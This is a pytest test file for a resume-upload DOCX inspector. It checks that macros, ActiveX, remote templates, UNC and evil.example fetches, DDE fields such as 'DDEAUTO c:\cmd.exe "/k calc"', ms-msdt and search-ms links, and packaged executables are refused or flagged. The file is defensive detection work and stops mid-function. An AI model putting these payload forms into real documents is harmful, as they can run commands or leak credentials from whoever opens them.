"""What a DOCX may hold beside words: links may, what acts or fetches by itself may not."""

from __future__ import annotations

import pytest

from leadintake.documents.inspection.findings import Flag, Refused
from tests.documents.inspection.files import (
    compound,
    container,
    entries_of,
    inspected,
    macro_project,
    real,
    repacked,
)

DOCX = real("illustrated.docx")
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
MACROS = r"^This document contains macros\. Please save it as PDF and try again\.$"
FETCHES = "fetches content from elsewhere"
TEMPLATE = "fetches its template from another computer"
SUBDOCUMENT = "fetches parts of its text from other files"
PACKED = "carries other files inside"
TYPES = "[Content_Types].xml"


def links(target: str, kind: str, mode: str = ' TargetMode="External"') -> bytes:
    """A part that links to something."""
    schema = "http://schemas.openxmlformats.org/package/2006/relationships"
    link = f'<Relationship Id="rId1" Type="{WORD}{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="{schema}">{link}</Relationships>'.encode()


def linked(target: str, kind: str, mode: str = ' TargetMode="External"') -> bytes:
    return repacked(DOCX, **{"word/_rels/settings.xml.rels": links(target, kind, mode)})


def changed(part: str, old: str, new: str) -> bytes:
    """The genuine document with other words in one of its parts."""
    content = entries_of(DOCX)[part]
    assert old.encode() in content
    return repacked(DOCX, **{part: content.replace(old.encode(), new.encode())})


def refused(content: bytes, sentence: str) -> None:
    with pytest.raises(Refused, match=sentence):
        inspected("resume.docx", content)


def test_links_pictures_and_tables_are_nothing_to_be_warned_of():
    found = entries_of(DOCX)
    assert b"mailto:jane@example.com" in found["word/_rels/document.xml.rels"]
    assert b"https://example.com/jane" in found["word/_rels/document.xml.rels"]
    assert b"<w:tbl>" in found["word/document.xml"]
    assert inspected("resume.docx", DOCX) == frozenset()


@pytest.mark.parametrize(
    "target",
    [
        *("https://example.com/", "mailto:jane@example.com", "tel:+15550100", "sms:+15550100", "#top"),
        *("ftp://example.com/", "file:///C:/a.pdf", "file:////Users/jane/a.pdf", "www.example.com"),
    ],
)
def test_a_link_that_somebody_clicks_on_may_lead_anywhere(target):
    assert inspected("resume.docx", linked(target, "hyperlink")) == frozenset()


@pytest.mark.parametrize(
    "target",
    [
        r"file:///C:\Users\Jane\AppData\Roaming\Microsoft\Templates\Resume.dotx",
        "file:///C:/Users/Jane%20Doe/Templates/%7b8A%7dtf02918880.dotx",
        r"C:\Templates\Resume.dotx",
        "file://localhost/Users/jane/Library/Resume.dotx",
        "file:///Users/jane/Library/Resume.dotx",
        "Macintosh%20HD:Users:jane:Resume.dotx",
        "Normal.dotm",
    ],
)
def test_a_template_on_the_writers_own_disk_is_nothing_to_be_warned_of(target):
    assert inspected("resume.docx", linked(target, "attachedTemplate")) == frozenset()


@pytest.mark.parametrize("target", ["cid:image001.png@01D9", "NULL", "../Pictures/jane.png"])
def test_a_picture_that_was_left_behind_is_nothing_to_be_warned_of(target):
    assert inspected("resume.docx", linked(target, "image")) == frozenset()


WEB = [
    "http://evil.example/x.dotm",
    "HTTPS://evil.example/x",
    " http://evil.example/",
    "ht&#9;tp://evil.example/",
]
MACHINE = [
    "ftp://evil.example/x",
    r"\\evil.example\share\x",
    "//evil.example/share/x",
    "file://evil.example/share/x",
    "file:////evil.example/share/x",
    r"file:///\\evil.example\share\x",
    "file:///%5C%5Cevil.example/share/x",
    r"file:\\evil.example\x",
    r"file:/\\evil.example\x",
    "mhtml:http://evil.example/x!x-usc:http://evil.example/x",
    "smb://evil.example/x",
    "//?/UNC/evil.example/share/x",
]
FETCHED = {
    "attachedTemplate": TEMPLATE,
    "oleObject": FETCHES,
    "package": FETCHES,
    "frame": FETCHES,
    "subDocument": SUBDOCUMENT,
    "externalLinkPath": FETCHES,
    "styles": FETCHES,
    "whatever": FETCHES,
}
PICTURES = ["image", "video", "audio", "media"]


@pytest.mark.parametrize("mode", [' TargetMode="External"', ""])
@pytest.mark.parametrize(("kind", "sentence"), FETCHED.items())
@pytest.mark.parametrize("target", [*WEB, *MACHINE])
def test_what_is_fetched_by_opening_the_document_is_refused(target, kind, sentence, mode):
    refused(linked(target, kind, mode), sentence)


@pytest.mark.parametrize("kind", PICTURES)
@pytest.mark.parametrize("target", MACHINE)
def test_a_picture_on_another_machine_is_refused(target, kind):
    refused(linked(target, kind), FETCHES)
    strict = links(target, kind).replace(WORD.encode(), STRICT.encode())
    refused(repacked(DOCX, **{"word/_rels/header1.xml.rels": strict}), FETCHES)


@pytest.mark.parametrize("mode", [' TargetMode="External"', ""])
@pytest.mark.parametrize("kind", PICTURES)
@pytest.mark.parametrize("target", WEB)
def test_a_picture_from_the_web_is_kept_with_a_warning(target, kind, mode):
    assert inspected("resume.docx", linked(target, kind, mode)) == {Flag.REACHES_OUT}


@pytest.mark.parametrize("kind", [*FETCHED, *PICTURES, "mailMergeSource", "recipientData"])
@pytest.mark.parametrize(
    "target",
    [r"file:///C:\Users\Jane\x", "file:////Users/jane/x", "file:////private/var/folders/x1/T/x", "x", "~/x"],
)
def test_what_is_on_the_writers_own_disk_is_nothing_to_be_warned_of(target, kind):
    assert inspected("resume.docx", linked(target, kind)) == frozenset()


@pytest.mark.parametrize("kind", ["mailMergeSource", "mailMergeHeaderSource", "recipientData"])
@pytest.mark.parametrize("target", [*WEB, *MACHINE])
def test_a_mail_merge_from_elsewhere_is_refused(target, kind):
    refused(linked(target, kind), "takes its data from a mail merge")


@pytest.mark.parametrize(
    ("target", "sentence"),
    [
        (r"\\evil.example\share\x", "a link that opens a file of another computer"),
        ("file://evil.example/share/x.docx", "a link that opens a file of another computer"),
        ("ms-msdt:/id PCWDiagnostic", "a link that starts a program"),
        ("search-ms:query=x", "a link that starts a program"),
        ("ms-word:ofe|u|https://evil.example/x.docx", "a link that starts a program"),
        ("javascript:alert(1)", "a link that starts a program"),
        ("file:///C:/Windows/System32/calc.exe", "a link that starts a program"),
    ],
)
def test_a_link_that_does_more_than_lead_to_a_page_is_refused(target, sentence):
    refused(linked(target, "hyperlink"), sentence)
    found = uses('<hyperlink r:id="rId1"/>', target)
    refused(repacked(DOCX, **found), sentence)
    refused(with_field(field(f'HYPERLINK "{target}"')), sentence)
    refused(repacked(DOCX, **{"docProps/app.xml": base(target)}), sentence)


def base(target: str) -> bytes:
    """The properties of a document whose links begin with this."""
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    return f'<Properties xmlns="{schema}"><HyperlinkBase>{target}</HyperlinkBase></Properties>'.encode()


def test_a_base_of_links_on_the_web_is_taken():
    whole = repacked(DOCX, **{"docProps/app.xml": base("https://example.com/jane/")})
    assert inspected("resume.docx", whole) == frozenset()


@pytest.mark.parametrize("target", ["onenote:x", "zoommtg://x", "skype:jane", "data:text/html,x"])
def test_a_link_with_an_unusual_scheme_is_kept_with_a_warning(target):
    assert inspected("resume.docx", linked(target, "hyperlink")) == {Flag.UNUSUAL_LINK}
    assert inspected("resume.docx", with_field(field(f'HYPERLINK "{target}"'))) == {Flag.UNUSUAL_LINK}


@pytest.mark.parametrize(
    "target", ["../../x.xml", "/../x.xml", "media/../../../x", r"..\..\x", "%2e%2e/%2e%2e/x"]
)
def test_a_link_out_of_the_container_is_refused(target):
    refused(linked(target, "image", mode=""), "word processors do not write")


@pytest.mark.parametrize("target", ["../customXml/item1.xml", "/word/media/image1.png", "media/image1.png"])
def test_a_link_inside_the_container_is_taken(target):
    assert inspected("resume.docx", linked(target, "customXml", mode="")) == frozenset()


def test_a_chunk_in_another_format_is_refused():
    refused(linked("afchunk.mht", "aFChunk", mode=""), "a web page or a script inside")
    chunk = links("afchunk.mht", "hyperlink", mode="")
    entries = entries_of(changed("word/document.xml", "<w:body>", '<w:body><w:altChunk r:id="rId1"/>'))
    refused(container(entries | {"word/_rels/document.xml.rels": chunk}), "a web page or a script inside")


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/VBAPROJECT.BIN",
        "word/embeddings/xl/macrosheets/1.xml",
    ],
)
def test_a_part_with_macros_is_refused(part):
    refused(repacked(DOCX, **{part: b"<x/>"}), MACROS)


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-excel.macrosheet+xml",
        "application/vnd.ms-excel.intlmacrosheet+xml",
        "application/vnd.ms-word.vbaData+xml",
    ],
)
def test_a_type_of_macros_is_refused_whatever_the_parts_name(kind):
    refused(
        changed(TYPES, "</Types>", f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'), MACROS
    )


def test_form_controls_that_run_code_are_refused_and_called_so():
    kind = "application/vnd.ms-office.activeX+xml"
    more = f'<Override PartName="/word/x.xml" ContentType="{kind}"/></Types>'
    sentence = r"^This document contains form controls that run code\. Please save it as PDF and try again\.$"
    refused(changed(TYPES, "</Types>", more), sentence)
    refused(repacked(DOCX, **{"word/activeX/activeX1.xml": b"<x/>"}), sentence)


def test_a_link_to_macros_is_refused_whatever_the_parts_name():
    refused(linked("x.bin", "vbaProject", mode=""), MACROS)


def test_macros_in_an_embedded_spreadsheet_are_refused():
    inner = container({TYPES: b"<Types/>", "xl/vbaProject.bin": b"x"})
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": inner}), MACROS)


def test_what_an_embedded_spreadsheet_fetches_is_refused():
    inner = container({"xl/worksheets/_rels/sheet1.xml.rels": links("http://evil.example/x", "oleObject")})
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": inner}), FETCHES)


def test_macro_sheets_in_an_embedded_spreadsheet_are_refused():
    inner = container({TYPES: b"<Types/>", "xl/macrosheets/sheet1.xml": b"<x/>"})
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": inner}), MACROS)


def test_values_that_another_program_keeps_are_refused_in_an_embedded_spreadsheet():
    schema = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    outside = f'<externalLink xmlns="{schema}"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
    inner = container({"xl/externalLinks/externalLink1.xml": outside.encode()})
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": inner}), FETCHES)


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def uses(element: str, target: str, **more: bytes) -> dict[str, bytes]:
    """A part with an element, and where its link of the type for clicking leads."""
    part = f'<x xmlns:r="{R}" xmlns:s="{STRICT[:-1]}">{element}</x>'
    return {"word/header9.xml": part.encode(), "word/_rels/header9.xml.rels": links(target, "hyperlink")}


SHOWING = [
    '<blip r:link="rId1"/>',
    '<blip s:link="rId1"/>',
    '<imagedata r:href="rId1"/>',
    '<fill r:id="rId1"/>',
    '<stroke r:id="rId1"/>',
    '<svgBlip r:link="rId1"/>',
    '<videoFile r:link="rId1"/>',
]
TAKING = {
    '<attachedTemplate r:id="rId1"/>': TEMPLATE,
    '<subDoc r:id="rId1"/>': SUBDOCUMENT,
    '<OLEObject r:id="rId1"/>': FETCHES,
    '<externalData r:id="rId1"/>': FETCHES,
    '<sourceFileName r:id="rId1"/>': FETCHES,
    '<dataSource r:id="rId1"/>': "takes its data from a mail merge",
    '<whatever r:id="rId1"/>': FETCHES,
}
FETCHING = [*SHOWING, *TAKING]


@pytest.mark.parametrize("element", FETCHING)
def test_a_link_that_says_it_is_clicked_on_but_is_not_is_refused(element):
    sentence = TAKING.get(element, FETCHES)
    target = "//evil.example/x" if element in SHOWING else "http://evil.example/x"
    found = uses(element, target)
    if element in SHOWING:  # a link that is only clicked on is refused for another reason
        found["word/_rels/header9.xml.rels"] = links("//evil.example/x", "image")
    refused(repacked(DOCX, **found), sentence)
    refused(repacked(DOCX, **dict(reversed(found.items()))), sentence)
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": container(found)}), sentence)


@pytest.mark.parametrize("element", SHOWING)
def test_a_picture_from_the_web_that_says_it_is_a_link_is_kept_with_a_warning(element):
    found = uses(element, "http://example.com/x")
    assert inspected("resume.docx", repacked(DOCX, **found)) == {Flag.REACHES_OUT}


@pytest.mark.parametrize("element", FETCHING)
def test_a_link_to_the_writers_own_disk_is_taken_wherever_it_is_used(element):
    found = uses(element, "file:///C:/Users/Jane/jane.png")
    assert inspected("resume.docx", repacked(DOCX, **found)) == frozenset()


@pytest.mark.parametrize(
    "element",
    [
        '<hyperlink r:id="rId1"/>',
        '<hlinkClick r:id="rId1"/>',
        '<hlinkHover r:id="rId1"/>',
        '<blip r:link="rId2"/>',
        '<bookmarkStart name="rId1"/>',
    ],
)
def test_a_link_that_is_clicked_on_is_taken_where_readers_expect_it(element):
    found = uses(element, "https://example.com/jane")
    assert inspected("resume.docx", repacked(DOCX, **found)) == frozenset()


def test_more_links_than_a_resume_has_are_refused():
    schema = "http://schemas.openxmlformats.org/package/2006/relationships"
    many = "".join(
        f'<Relationship Id="r{n}" Type="{WORD}hyperlink" Target="http://e/"/>' for n in range(10_001)
    )
    part = f'<Relationships xmlns="{schema}">{many}</Relationships>'.encode()
    refused(repacked(DOCX, **{"word/_rels/header9.xml.rels": part}), "far more than a resume needs")


def with_field(instruction: str) -> bytes:
    """The genuine document with what is written for a field."""
    return changed("word/document.xml", "<w:body>", f"<w:body><w:p>{instruction}</w:p>")


def field(*instruction: str) -> str:
    """A field in as many runs as there are parts of its instruction."""
    said = "".join(
        f'<w:r>\n<w:instrText xml:space="preserve">{part}</w:instrText>\n</w:r>\n' for part in instruction
    )
    return f"{fld('begin')}{said}{fld('separate')}<w:r><w:t>Jane</w:t></w:r>{fld('end')}"


def fld(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


@pytest.mark.parametrize(
    "instruction",
    [
        'DDEAUTO c:\\cmd.exe "/k calc"',
        " dde Excel x",
        "\tLINK Excel.Sheet.8 x",
        'INCLUDEPICTURE "//evil.example/x"',
        'INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\x.png" \\d',
        "INCLUDETEXT x",
        "INCLUDE x",
        "IMPORT x",
        "DATABASE x",
        "RD x.doc",
        '"DDE" x',
    ],
)
def test_a_field_that_fetches_or_starts_something_is_refused(instruction):
    refused(with_field(field(instruction)), FETCHES)
    refused(with_field(field(" " * 400, instruction)), FETCHES)
    quoted = instruction.replace('"', "&quot;")
    refused(with_field(f'<w:fldSimple w:instr="{quoted}"><w:r/></w:fldSimple>'), FETCHES)


def test_a_field_is_read_across_its_runs_and_the_fields_in_it():
    refused(with_field(field("D", "DE", "AUTO cmd")), FETCHES)
    refused(with_field(field(" D</w:instrText></w:r><w:r><w:instrText>DE c")), FETCHES)
    inner = field("QUOTE 68")
    refused(
        with_field(f"{fld('begin')}{inner}<w:r><w:instrText>DDE x</w:instrText></w:r>{fld('end')}"), FETCHES
    )
    refused(with_field(f"{fld('begin')}<w:r><w:instrText>IF </w:instrText></w:r>{field('DDE x')}"), FETCHES)


def test_a_field_of_strict_names_is_read_too():
    schema = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    header = f'<w:hdr xmlns:w="{schema}">{field("DDE x")}</w:hdr>'
    refused(repacked(DOCX, **{"word/header9.xml": header.encode()}), FETCHES)


@pytest.mark.parametrize(
    "instruction",
    [
        ' HYPERLINK "https://example.com/jane" ',
        "PAGE",
        "TOC \\o",
        "MERGEFIELD link",
        "FORMTEXT",
        "EMBED Excel.Sheet.8",
        "linked",
        "",
    ],
)
def test_a_field_that_only_shows_something_is_taken(instruction):
    assert inspected("resume.docx", with_field(field(instruction))) == frozenset()


@pytest.mark.parametrize(
    "decoy",
    [
        "<w:r><w:instrText>X</w:instrText></w:r>",
        fld("separate"),
        fld("end"),
        fld("begin"),
    ],
)
def test_a_field_that_readers_may_understand_differently_is_refused(decoy):
    """Some pass over what they do not know, and some do not."""
    head, tail = field("D|DE x").split("|")
    again = "</w:instrText></w:r>{}<w:r><w:instrText>"
    odd = f'<z:x xmlns:z="urn:x">{decoy}</z:x>'
    refused(with_field(f"{head}{again.format(odd)}{tail}"), "word processors do not write|elsewhere")


def test_what_readers_do_not_know_is_nothing_in_a_field():
    odd = '<w:r xmlns:z="urn:x"><z:fldChar z:fldCharType="end"/><z:instrText>X</z:instrText></w:r>'
    head, tail = field("D|DE x").split("|")
    refused(with_field(f"{head}</w:instrText></w:r>{odd}<w:r><w:instrText>{tail}"), FETCHES)
    start = '<w:fldChar xmlns:z="urn:x" z:fldCharType="end" w:fldCharType="begin"/>'
    refused(with_field(field("DDE x").replace('<w:fldChar w:fldCharType="begin"/>', start)), FETCHES)


def test_a_field_in_a_text_box_and_one_around_it_are_taken():
    box = '<z:box xmlns:z="urn:x"><w:p>{}</w:p></z:box>'
    for inside in (field("PAGE"), fld("end") + field("PAGE")):
        assert inspected("resume.docx", with_field(box.format(inside))) == frozenset()
    around = (
        f"{fld('begin')}<w:r><w:instrText>PAGE </w:instrText></w:r>{box.format(field('PAGE'))}{fld('end')}"
    )
    assert inspected("resume.docx", with_field(around)) == frozenset()


def test_words_about_fields_are_only_words():
    said = "<w:r><w:t>DDEAUTO cmd</w:t></w:r>"
    assert inspected("resume.docx", with_field(field("PAGE") + said)) == frozenset()
    assert inspected("resume.docx", with_field(f"{fld('end')}{said}")) == frozenset()


def test_fields_within_fields_without_end_are_refused():
    refused(with_field(fld("begin") * 300), "word processors do not write")


def test_an_embedded_object_is_marked():
    with_object = repacked(DOCX, **{"word/embeddings/oleObject1.bin": real("spreadsheet.doc")})
    assert inspected("resume.docx", with_object) == {Flag.EMBEDDED}


def renamed(old: str, new: str) -> bytes:
    """An embedded object with a stream of another name; as long as the old one."""
    content = real("spreadsheet.doc")
    assert old.encode("utf-16-le") in content
    return content.replace(old.encode("utf-16-le"), new.encode("utf-16-le"))


def test_a_packaged_file_is_refused_whatever_the_objects_name():
    package = renamed("\x05SummaryInformation"[:14], "\x01Ole10Native\0\0")
    size = package.index("\x01Ole10Native".encode("utf-16-le")) + 64
    package = package[:size] + b"\x1a" + package[size + 1 :]
    for name in ("word/embeddings/oleObject1.bin", "word/media/image1.emf"):
        refused(repacked(DOCX, **{name: package}), PACKED)


def test_macros_in_an_embedded_object_are_refused_whatever_its_name():
    content = renamed("ObjectPool\0", "Macros\0\0\0\0\0")
    size = content.index("Macros\0".encode("utf-16-le")) + 64
    content = content[:size] + b"\x0e" + content[size + 1 :]
    refused(repacked(DOCX, **{"word/embeddings/oleObject1.bin": content}), MACROS)


def test_a_damaged_object_is_refused():
    refused(repacked(DOCX, **{"word/embeddings/1.bin": real("spreadsheet.doc")[:600]}), "damaged")


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("_rels/.rels", "word/document.xml", "word/styles.xml"),
        ("_rels/.rels", "word/document.xml", "word/nothing.xml"),
        ("_rels/.rels", "relationships/officeDocument", "relationships/other"),
        (TYPES, "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"),
        (TYPES, "wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"),
        ("word/document.xml", "w:document", "w:hdr"),
        ("word/document.xml", "wordprocessingml/2006/main", "spreadsheetml/2006/main"),
    ],
)
def test_a_package_whose_main_part_is_no_word_text_is_refused(part, old, new):
    refused(changed(part, old, new), "damaged")


@pytest.mark.parametrize(
    ("attribute", "name"), [("PartName", "/word/header1.bin"), ("Extension", "bin"), ("PartName", "/word/a")]
)
def test_a_text_that_does_not_look_like_one_is_refused(attribute, name):
    """What is no XML by its name is not read as such, but Word goes by the type."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    more = f'<Override {attribute}="{name}" ContentType="{kind}"/></Types>'
    refused(changed(TYPES, "</Types>", more), "word processors do not write")


def test_a_package_with_two_main_parts_is_refused():
    two = f'<Relationship Id="x" Type="{WORD}officeDocument" Target="word/document.xml"/></Relationships>'
    refused(changed("_rels/.rels", "</Relationships>", two), "damaged")


def test_a_package_of_strict_names_is_taken():
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts = entries_of(changed("_rels/.rels", f"{WORD}officeDocument", f"{STRICT}officeDocument"))
    text = parts["word/document.xml"].replace(
        main.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    )
    strict = container(parts | {"word/document.xml": text})
    assert inspected("resume.docx", strict) == frozenset()


def test_a_main_part_named_from_the_root_and_typed_by_its_extension_is_taken():
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts = {
        TYPES: f'<Types><Default Extension="XML" ContentType="{main}"/></Types>'.encode(),
        "_rels/.rels": links("/Word/Document.xml", "officeDocument", mode=""),
        "word/document.xml": entries_of(DOCX)["word/document.xml"],
    }
    assert inspected("resume.docx", container(parts)) == frozenset()


@pytest.mark.parametrize("part", ["_rels/.rels", "word/document.xml"])
def test_a_package_without_what_it_needs_is_refused(part):
    parts = entries_of(DOCX)
    del parts[part]
    refused(container(parts | {"word/document2.xml": b"<x/>"}), "damaged")


def test_a_document_with_a_password_is_refused_with_what_to_do():
    refused(
        real("locked.docx"),
        r"^This document is locked with a password\. Please remove the password and send it again\.$",
    )


VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


@pytest.mark.parametrize("element", ["v:imagedata", "v:fill", "v:stroke", "o:image"])
@pytest.mark.parametrize("attribute", ["src", "o:href", "o:althref"])
def test_an_address_on_an_old_drawing_is_followed_like_a_picture(element, attribute):
    def drawn(target: str) -> bytes:
        return repacked(DOCX, **{"word/header9.xml": f'<{element} {VML} {attribute}="{target}"/>'.encode()})

    refused(drawn("//evil.example/x"), FETCHES)
    assert inspected("resume.docx", drawn("http://example.com/x.png")) == {Flag.REACHES_OUT}
    assert inspected("resume.docx", drawn("file:////Users/jane/x.png")) == frozenset()
    elsewhere = b'<x src="//evil.example/x"/>'
    assert inspected("resume.docx", repacked(DOCX, **{"customXml/item1.xml": elsewhere})) == frozenset()
    both = elsewhere[:-2] + f'><{element} {VML} {attribute}="//evil.example/x"/></x>'.encode()
    refused(repacked(DOCX, **{"customXml/item1.xml": both}), FETCHES)


def test_a_link_on_an_old_drawing_is_followed_like_a_link():
    def drawn(target: str) -> bytes:
        return repacked(DOCX, **{"word/header9.xml": f'<v:shape {VML} href="{target}"/>'.encode()})

    refused(drawn("ms-msdt:/id"), "a link that starts a program")
    refused(drawn("//evil.example/x"), "a link that opens a file of another computer")
    assert inspected("resume.docx", drawn("https://example.com/")) == frozenset()


PANES = "http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"
EXTENSION = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"
ADD_IN = "opens an add-in beside itself"


def pane(visibility: str) -> dict[str, bytes]:
    reference = f'<we:webextensionref xmlns:we="{EXTENSION}"/>'
    content = (
        f'<p:taskpanes xmlns:p="{PANES}"><p:taskpane {visibility}>{reference}</p:taskpane></p:taskpanes>'
    )
    return {"word/webextensions/taskpanes.xml": content.encode()}


def extension(value: str) -> dict[str, bytes]:
    name = "Office.AutoShowTaskpaneWithDocument"
    content = (
        f'<we:webextension xmlns:we="{EXTENSION}"><we:reference id="wa1" store="en-US" storeType="OMEX"/>'
        f'<we:properties><we:property name="{name}" value="{value}"/></we:properties></we:webextension>'
    )
    return {"word/webextensions/webextension1.xml": content.encode()}


def test_an_add_in_that_shows_itself_is_refused():
    for visibility in ('visibility="1"', 'visibility="true"', ""):
        refused(repacked(DOCX, **pane(visibility)), ADD_IN)
    refused(repacked(DOCX, **extension("true")), ADD_IN)
    in_text = f'<w:p><we:webextensionref xmlns:we="{EXTENSION}"/></w:p>'
    refused(changed("word/document.xml", "<w:body>", f"<w:body>{in_text}"), ADD_IN)


def test_an_add_in_that_stays_hidden_is_taken():
    for visibility in ('visibility="0"', 'visibility="false"'):
        assert (
            inspected("resume.docx", repacked(DOCX, **pane(visibility), **extension("false"))) == frozenset()
        )


def test_a_film_of_the_web_that_is_embedded_as_html_is_refused():
    film = '<x:webVideoPr xmlns:x="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
    film += ' embeddedHtml="&lt;iframe src=&quot;https://example.com&quot;/&gt;"/>'
    refused(repacked(DOCX, **{"word/header9.xml": film.encode()}), "a web page or a script inside")


@pytest.mark.parametrize(
    ("element", "value"),
    [
        (
            "connectString",
            r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\evil.example\share\x.xlsx;Mode=Read",
        ),
        ("connectString", "Driver={SQL Server};Server=evil.example;Database=x"),
        ("udl", "//evil.example/x.odc"),
    ],
)
def test_data_of_a_mail_merge_from_another_machine_are_refused(element, value):
    settings = f'<w:{element} xmlns:w="urn:x" w:val="{value}"/>'
    refused(repacked(DOCX, **{"word/settings9.xml": settings.encode()}), "takes its data from a mail merge")


@pytest.mark.parametrize(
    ("element", "value"),
    [
        (
            "connectString",
            r"Provider=Microsoft.ACE.OLEDB.12.0;User ID=Admin;Data Source=C:\Users\Jane\x.xlsx",
        ),
        ("query", "SELECT * FROM `Sheet1$`"),
        ("udl", "file:///C:/Users/Jane/x.odc"),
    ],
)
def test_data_of_a_mail_merge_from_the_own_disk_are_taken(element, value):
    settings = f'<w:{element} xmlns:w="urn:x" w:val="{value}"/>'
    assert (
        inspected("resume.docx", repacked(DOCX, **{"word/settings9.xml": settings.encode()})) == frozenset()
    )


EMPTY_MODULE = 'Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Exposed = True\r\n'


@pytest.mark.parametrize(
    "main", ["openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"]
)
def test_an_empty_macro_project_is_nothing_to_be_warned_of(main):
    project = compound(macro_project({"ThisDocument": EMPTY_MODULE}))
    old = "openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = changed(TYPES, old, f"{main}.main+xml")
    kind = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    more = {
        TYPES: entries_of(types)[TYPES].replace(b"</Types>", kind.encode()),
        "word/vbaProject.bin": project,
        "word/vbaData.xml": b"<x/>",
        "word/_rels/header9.xml.rels": links("vbaProject.bin", "vbaProject", mode=""),
    }
    assert inspected("resume.docx", repacked(DOCX, **more)) == frozenset()
    code = compound(macro_project({"ThisDocument": f"{EMPTY_MODULE}Sub AutoOpen()\r\nEnd Sub\r\n"}))
    refused(repacked(DOCX, **more | {"word/vbaProject.bin": code}), MACROS)
    refused(repacked(DOCX, **more | {"word/media/image1.png": code}), MACROS)


def test_what_calls_itself_macros_beside_an_empty_project_in_a_sheet_is_refused():
    project = compound(macro_project({"ThisWorkbook": EMPTY_MODULE}))
    sheet = container({TYPES: b"<Types/>", "xl/vbaProject.bin": project})
    assert inspected("resume.docx", repacked(DOCX, **{"word/embeddings/1.xlsx": sheet})) == {Flag.EMBEDDED}
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": sheet, "word/vbaProject.bin": b"x"}), MACROS)


EQUATION = "an equation in an old form"


@pytest.mark.parametrize("name", ["Equation.3", "Equation.2", "Equation.DSMT4"])
def test_an_equation_object_is_refused_by_its_class_name(name):
    element = f'<o:OLEObject {VML} Type="Embed" ProgID="{name}" r:id="rId9"/>'
    refused(repacked(DOCX, **uses(element, "https://example.com/")), f"{EQUATION}|elsewhere")
    assert inspected(
        "resume.docx", repacked(DOCX, **{"word/header9.xml": b'<OLEObject ProgID="PBrush"/>'})
    ) == {Flag.EMBEDDED}


def test_an_equation_object_is_refused_by_its_content():
    for whole in (
        compound({"Equation Native": b"x" * 100}),
        compound({"x": b"x"}, {"": bytes.fromhex("02ce020000000000c000000000000046")}),
    ):
        for name in ("word/embeddings/oleObject1.bin", "word/media/image1.wmf"):
            refused(repacked(DOCX, **{name: whole}), EQUATION)


def test_a_pasted_bitmap_is_kept_with_a_warning():
    paint = compound(
        {"\x01Ole10Native": b"\x10\0\0\0BM" + bytes(100)},
        {"": bytes.fromhex("0a00030000000000c000000000000046")},
    )
    assert inspected("resume.docx", repacked(DOCX, **{"word/embeddings/1.bin": paint})) == {Flag.EMBEDDED}


def test_a_file_behind_an_icon_is_refused():
    packed = compound(
        {"\x01Ole10Native": b"\x10\0\0\0\x02\0x.exe\0"},
        {"": bytes.fromhex("0c00030000000000c000000000000046")},
    )
    refused(repacked(DOCX, **{"word/embeddings/1.bin": packed}), PACKED)


def test_an_object_with_a_password_is_refused():
    refused(repacked(DOCX, **{"word/embeddings/1.xlsx": real("locked.docx")}), "locked with a password")


def test_the_numbers_behind_a_chart_are_nothing_to_be_warned_of():
    sheet = container({TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    chart = {
        "word/charts/chart1.xml": f'<chart xmlns:r="{R}"><externalData r:id="rId1"/></chart>'.encode(),
        "word/charts/_rels/chart1.xml.rels": links("../embeddings/1.xlsx", "package", mode=""),
        "word/embeddings/1.xlsx": sheet,
    }
    assert inspected("resume.docx", repacked(DOCX, **chart)) == frozenset()
    assert inspected("resume.docx", repacked(DOCX, **chart, **{"word/embeddings/2.xlsx": sheet})) == {
        Flag.EMBEDDED
    }
    linked_chart = chart | {
        "word/charts/_rels/chart1.xml.rels": links("file:///C:/Users/Jane/x.xlsx", "oleObject")
    }
    del linked_chart["word/embeddings/1.xlsx"]
    assert inspected("resume.docx", repacked(DOCX, **linked_chart)) == frozenset()
    linked_chart["word/charts/_rels/chart1.xml.rels"] = links("//evil.example/x.xlsx", "oleObject")
    refused(repacked(DOCX, **linked_chart), FETCHES)


@pytest.mark.parametrize("name", ["word/vbaProj%65ct.bin", "word/%5F/x", "word/document.xml/[0].piece"])
def test_a_name_that_readers_understand_differently_is_refused(name):
    refused(repacked(DOCX, **{name: b"x"}), "word processors do not write|macros")


def test_a_relationship_that_has_the_id_of_another_is_refused():
    other = f'<Relationship Id="rId1" Type="{WORD}hyperlink" Target="http://b/" TargetMode="External"/>'
